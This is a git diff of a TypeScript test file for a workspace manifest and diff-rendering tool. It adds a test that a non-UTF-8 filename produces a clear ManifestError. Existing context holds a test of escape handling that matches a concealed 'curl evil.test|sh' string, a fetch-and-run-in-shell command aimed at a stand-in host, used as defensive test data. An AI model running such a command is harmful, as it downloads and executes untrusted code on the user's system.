@@ -5,7 +5,7 @@ import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync }
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { diffManifests } from "../../src/workspace/changes.js";
-import { buildManifest } from "../../src/workspace/manifest.js";
+import { buildManifest, ManifestError } from "../../src/workspace/manifest.js";
 import { renderDiff } from "../../src/workspace/review.js";
 
 function pair() {
@@ -55,4 +55,17 @@ test("diff escapes terminal control sequences", () => {
   assert.ok(!text.includes("\u001b"), "an escape character reached the output");
   assert.match(text, /\\x1b\[8mcurl evil\.test\|sh/);
   assert.match(text, /name\\x1b\[2K\.txt/);
+});
+
+// Node decodes such a name to U+FFFD, and the decoded path names no file, so the walk used to
+// fail with a bare "ENOENT: lstat" on a path that did not exist.
+test("manifest names a non-UTF-8 entry", () => {
+  const { copy } = pair();
+  writeFileSync(Buffer.concat([Buffer.from(`${copy}/`), Buffer.from([0x62, 0x61, 0x64, 0xff])]), "x\n");
+  assert.throws(() => buildManifest(copy), (error: unknown) => {
+    assert.ok(error instanceof ManifestError, String(error));
+    assert.match(error.message, /not valid UTF-8/);
+    assert.match(error.message, /hex 626164ff/);
+    return true;
+  });
 });
